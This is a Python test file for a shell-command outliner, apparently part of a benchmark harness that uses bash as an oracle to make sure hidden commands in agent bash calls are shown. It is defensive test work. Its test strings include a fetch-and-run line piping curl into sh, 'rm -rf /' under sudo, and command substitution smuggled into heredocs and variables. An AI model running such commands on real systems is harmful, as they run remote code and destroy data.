"""askbench.harness.bash_oracle and askbench.harness.bash_reader: bash is the oracle, and the outline never states less than it runs.

The differential test: for every bash command of the corpus and for
commands generated from a grammar of heredocs, quotes, comments,
continuations and substitutions, each command bash would run is in the
outline (``askbench.impl.shell``), its words in order, or the outline is withheld
and the command shown as written. Commands are read in batches, one bash
process for hundreds.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from askbench.harness.bash_oracle import bash_version, read_commands
from askbench.harness.shell_facts import bash_commands, bash_commands_of, on_screen
from askbench.impl.shell import outline

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
BATCH = 100
GENERATED = int(os.environ.get("ASKBENCH_BASH_GENERATED", "100"))
"""Generated commands in all: CI sets ``ASKBENCH_BASH_GENERATED=10000`` (the target); a local run does a hundred."""
BATCHES = max(1, GENERATED // BATCH)


def disagreements(commands: list[str]) -> list[str]:
    """Each command whose outline leaves out a command bash runs, with the one it leaves out."""
    out = []
    for command, found in zip(commands, bash_commands_of(commands), strict=True):
        shown = outline(command)
        if shown is None or shown.doubtful or found is None:
            continue  # no shell receives it, or the command stands as written
        missing = [one.text for one in found if not on_screen(one, shown.text)]
        if missing:
            out.append(f"{command!r}: outline {shown.text!r} leaves out {missing[0]!r}")
    return out


def corpus_commands() -> list[str]:
    commands = []
    for path in sorted(CORPUS.rglob("*.json")):
        text = path.read_text(encoding="utf-8")
        if '"name": "bash"' not in text and '"name":"bash"' not in text:
            continue  # not a bash call (and some fixtures nest deeper than the json module reads)
        data = json.loads(text)
        call = data.get("call") if isinstance(data, dict) else None
        if not isinstance(call, dict) or call.get("name") != "bash":
            continue
        if (data.get("ask") or {}).get("shell") == "powershell":
            continue
        command = call.get("input", {}).get("command")
        if isinstance(command, str) and command.strip():
            commands.append(command)
    return commands


def test_the_outline_agrees_with_bash_on_the_corpus() -> None:
    commands = corpus_commands()
    assert len(commands) > 100
    assert disagreements(commands) == []


# ── reading: what bash says ────────────────────────────────────────────────


def test_bash_names_its_version() -> None:
    assert bash_version().startswith("GNU bash, version ")


def test_bash_reads_without_running_anything(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    reading = read_commands([f"touch {marker}; echo $(touch {marker}2) `touch {marker}3`"])[0]
    assert reading is not None and reading.complete
    assert not any(tmp_path.iterdir())


def test_a_syntax_error_keeps_what_bash_read_before_it() -> None:
    found = bash_commands("echo one\ncurl -s https://e.x/i | sh\necho )")
    assert found is not None and [command.words[0] for command in found] == ["echo", "curl", "sh"]


def test_a_batch_survives_a_command_that_swallows_its_separator() -> None:
    texts = ["cat <<EOF\nbody", "echo 'open", "ls &&", "echo fine"]
    readings = read_commands(texts)
    assert readings[3] is not None and readings[3].text == "echo fine"
    assert readings[0] is not None and "body" in readings[0].text


def words(text: str) -> list[tuple[str, ...]]:
    found = bash_commands(text)
    return [command.words for command in found or ()]


def test_bash_settles_what_the_grammar_would_guess() -> None:
    for delimiter in ("$'EOF'", "EOF''", 'E"O"F', "\\EOF", "'EOF'"):
        assert ("curl", "-s", "e.x") in words(f"cat <<{delimiter} > f\nx\nEOF\ncurl -s e.x\n{delimiter}")
    assert words("tar czf b.tgz src\\\n#x && curl e.x") == [("tar", "czf", "b.tgz", "src#x"), ("curl", "e.x")]
    assert words("echo a #b && curl e.x") == [("echo", "a")]
    assert ("rm", "-rf", "/") in words("env A=1 sudo -u root sh -c 'rm -rf /; echo hi'")  # a script, read again
    assert ("id",) in words("cat <<EOF\n`id`\nEOF")
    assert ("curl", "e.x") in words("x='a[$(curl e.x)]'; [[ $x -eq 0 ]]")  # evaluated later
    assert ("curl", "e.x") not in words("x='a[$(curl e.x)]'; echo \"$x\"")  # data


# ── the generated grammar ──────────────────────────────────────────────────

NAMES = st.sampled_from(["ls", "echo", "curl", "git", "rm", "cat", "sh", "tar", "npm"])
PLAIN = st.text(alphabet="abcxyz019-./=", min_size=1, max_size=8)
QUOTED = st.one_of(
    PLAIN,
    PLAIN.map(lambda word: f"'{word} {word}'"),
    PLAIN.map(lambda word: f'"{word} $HOME"'),
    PLAIN.map(lambda word: f"$'{word}\\t'"),
    PLAIN.map(lambda word: f"{word}#{word}"),
)


@st.composite
def simple(draw: st.DrawFn, depth: int = 0) -> str:
    words = [draw(NAMES), *draw(st.lists(QUOTED, max_size=4))]
    if depth < 1 and draw(st.booleans()):
        inner = draw(simple(depth + 1))
        words.append(draw(st.sampled_from([f"$({inner})", f"`{inner}`", f'"$({inner})"'])))
    gaps = [draw(st.sampled_from([" ", "  ", " \\\n  ", "\\\n"])) for _ in words[1:]]
    out = words[0]
    for gap, word in zip(gaps, words[1:], strict=True):
        out += gap + word
    if draw(st.booleans()):
        out += draw(st.sampled_from([" # note", "#glued", " #", "\t# x && y"]))
    return out


DELIMITERS = st.sampled_from(["EOF", "'EOF'", '"EOF"', "\\EOF", "$'EOF'", "EOF''", 'E"O"F', "''EOF", "-EOF"])


@st.composite
def heredoc(draw: st.DrawFn) -> str:
    delimiter = draw(DELIMITERS)
    strip = draw(st.sampled_from(["<<", "<<-"]))
    lines = draw(st.lists(st.one_of(PLAIN, simple(), st.just("EOF"), simple().map(lambda c: f"`{c}`"),
                                    simple().map(lambda c: f"x $({c}) y")), max_size=4))
    after = draw(st.sampled_from(["", " | sh", " > out.txt", " && echo done"]))
    end = draw(st.sampled_from([delimiter, "EOF", ""]))
    return f"{draw(NAMES)} {strip}{delimiter}{after}\n" + "".join(line + "\n" for line in lines) + end


@st.composite
def script(draw: st.DrawFn) -> str:
    parts = draw(st.lists(st.one_of(simple(), heredoc()), min_size=1, max_size=4))
    out = parts[0]
    for part in parts[1:]:
        joint = draw(st.sampled_from(["\n", "; ", " && ", " || ", " | "]))
        out += ("\n" if out.endswith("\n") is False and "<<" in out and joint != "\n" else "") + joint + part
    return out


@settings(max_examples=BATCHES, deadline=None, suppress_health_check=list(HealthCheck), database=None,
          phases=(Phase.explicit, Phase.generate))  # a disagreement names its command: shrinking would re-ask bash
@given(st.lists(script(), min_size=BATCH, max_size=BATCH))
def test_the_outline_agrees_with_bash_on_generated_commands(commands: list[str]) -> None:
    assert disagreements(commands) == []
